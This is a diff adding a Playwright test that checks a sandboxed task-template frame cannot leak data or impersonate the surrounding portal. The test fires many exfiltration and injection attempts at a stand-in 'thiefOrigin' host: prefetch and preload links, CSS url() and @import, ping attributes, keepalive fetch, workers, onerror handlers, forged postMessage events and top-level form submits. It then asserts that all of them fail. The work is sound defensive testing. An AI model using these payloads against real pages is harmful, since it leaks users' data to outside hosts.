@@ -88,15 +88,14 @@ const FORM = '<crowd-form><crowd-input name="a"></crowd-input></crowd-form>';
 
 /** Runs what a hostile template would, in its frame; an error's name is what it gets. */
 const attack = (frame: Frame, code: string): Promise<unknown> =>
-  frame.evaluate(async (text) => {
+  frame.evaluate(`(async () => {
     try {
-      const run = new Function('timeout', `return (async () => { ${text} })()`);
       const timeout = new Promise((resolve) => setTimeout(resolve, 2000, 'nothing happened'));
-      return (await Promise.race([run(timeout), timeout])) ?? 'nothing';
+      return (await Promise.race([(async () => { ${code} })(), timeout])) ?? 'nothing';
     } catch (error) {
-      return (error as Error).name;
+      return error.name;
     }
-  }, code);
+  })()`);
 
 describe('a hostile template', () => {
   test('gets nothing of the portal, of other tasks, or out of its frame', async () => {
@@ -165,6 +164,89 @@ describe('a hostile template', () => {
     expect(page.url()).toBe(portalUrl);
     await page.getByRole('button', { name: 'Submit' }).waitFor();
     await lab.jobs.stop('hostile');
+  });
+
+  test('finds no other way out either, and speaks to nobody but the portal around it', async () => {
+    const [page, frame] = await victimAt('ways-out', { template: FORM, texts: [{ source: 'a' }, { source: 'b' }] });
+    const portalUrl = page.url();
+    const send = (code: string) => attack(frame, code);
+    const put = (markup: string) => send(`document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(markup)})`);
+    const links = ['prefetch', 'prerender', 'preload', 'modulepreload', 'icon', 'manifest', 'next'];
+    await put(links.map((rel) => `<link rel="${rel}" as="script" href="${thiefOrigin}/${rel}">`).join(''));
+    await put(`<style>@import "${thiefOrigin}/import"; p { background: url(${thiefOrigin}/css); cursor: url(${thiefOrigin}/cursor), auto;
+      list-style: url(${thiefOrigin}/list) } p::after { content: url(${thiefOrigin}/content) }</style><p style="border-image: url(${thiefOrigin}/border)">x`);
+    await put(`<svg><image href="${thiefOrigin}/svg"/><use href="${thiefOrigin}/use#x"/></svg><audio src="${thiefOrigin}/audio" preload="auto"></audio>
+      <input type="image" src="${thiefOrigin}/input"><embed src="${thiefOrigin}/embed"><img srcset="${thiefOrigin}/srcset 1x">`);
+    await send(`const s = document.createElement("script"); s.type = "speculationrules";
+      s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["${thiefOrigin}/speculation"] }] }); document.head.append(s)`);
+    await put(`<a id="ping" href="#here" ping="${thiefOrigin}/ping">x</a>`);
+    await send('document.getElementById("ping").click()');
+    await send(`await fetch("${thiefOrigin}/keepalive", { mode: "no-cors", keepalive: true })`);
+    // A worker made of the page's own text has the page's own policy, and so has a frame within the frame.
+    expect(
+      await send(`const w = new Worker(URL.createObjectURL(new Blob(["fetch('${thiefOrigin}/worker', { mode: 'no-cors' }).then(() => postMessage('out'), () => postMessage('denied'))"])));
+        return new Promise((r) => { w.onmessage = ({ data }) => r(data) })`),
+    ).toBe('denied');
+    expect(
+      await send(`const f = document.createElement("iframe"); f.srcdoc = "<img src=${thiefOrigin}/srcdoc>"; document.body.append(f);
+        await new Promise((r) => { f.onload = r }); return "loaded"`),
+    ).toBe('loaded');
+    await put(
+      `<form id="out" method="get" target="_top" action="${thiefOrigin}/top"><input name="q" value="x"></form>`,
+    );
+    await send('document.getElementById("out").submit()');
+    await put(
+      `<a id="up" target="_top" href="${thiefOrigin}/up">x</a><a id="down" download href="${thiefOrigin}/download">x</a>`,
+    );
+    await send('document.getElementById("up").click(); document.getElementById("down").click()');
+    await page.getByRole('dialog', { name: 'Open this page?' }).waitFor();
+    await page.keyboard.press('Escape');
+    await page.getByRole('dialog').waitFor({ state: 'detached' });
+    // Nothing but the elements runs on the page of a template that has no scripts.
+    await put(
+      '<img src="x" onerror="window.ran = 1"><iframe srcdoc="<script>parent.postMessage(1, `*`)</script>"></iframe>',
+    );
+    await send('const s = document.createElement("script"); s.textContent = "window.ran = 1"; document.body.append(s)');
+    for (const [what, code] of [
+      ['a shared worker', 'new SharedWorker("/assets/portal.js")'],
+      ['files of its own', 'await navigator.storage.getDirectory()'],
+      ['the clipboard', 'await navigator.clipboard.readText()'],
+    ] as const)
+      expect([what, await send(code)]).toEqual([
+        what,
+        expect.stringMatching(/SecurityError|NotAllowedError|TypeError/),
+      ]);
+
+    // Channels do not reach the portal; what it says by messages is heard only where it means something.
+    await page.evaluate(() => {
+      const heard: unknown[] = [];
+      Object.assign(window, { heard });
+      new BroadcastChannel('plumbline').onmessage = ({ data }) => heard.push(data);
+    });
+    await send('new BroadcastChannel("plumbline").postMessage("x")');
+    const lease = await page.locator('iframe[data-lease]').getAttribute('data-lease');
+    await send(`for (const data of [null, 7, "plumbline:submit", [], { type: "plumbline:submit" }, { type: "plumbline:submit", answer: [1] },
+      { type: "plumbline:draft", answer: {} }, { type: "plumbline:change", answer: "x" }, { type: "plumbline:open", url: "data:text/html,x" },
+      { type: "plumbline:open", url: "/relative" }, { type: "__proto__" }]) parent.postMessage(data, "*")`);
+    // The page that waits for its turn may not speak yet.
+    const waiting = (await (await page.locator('iframe[inert]').elementHandle())!.contentFrame())!;
+    await waiting.evaluate(() => {
+      const answer = { a: 'forged' };
+      for (const type of ['submit', 'change', 'key', 'open'])
+        parent.postMessage(
+          { type: `plumbline:${type}`, answer, key: 'x', code: 'KeyX', url: 'https://example.com', isTouched: true },
+          '*',
+        );
+    });
+    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve)));
+    expect(await page.evaluate(() => (window as any).heard)).toEqual([]);
+    expect(await page.getByRole('dialog').count()).toBe(0);
+    expect(await page.locator('iframe[data-lease]').getAttribute('data-lease')).toBe(lease);
+    expect(await page.getByRole('button', { name: 'Submit' }).isEnabled()).toBe(true);
+    expect(page.url()).toBe(portalUrl);
+    expect(await send('return String(window.ran)')).toBe('undefined');
+    expect(stolen).toEqual([]);
+    await lab.jobs.stop('ways-out');
   });
 
   test('posts no form to anybody', async () => {
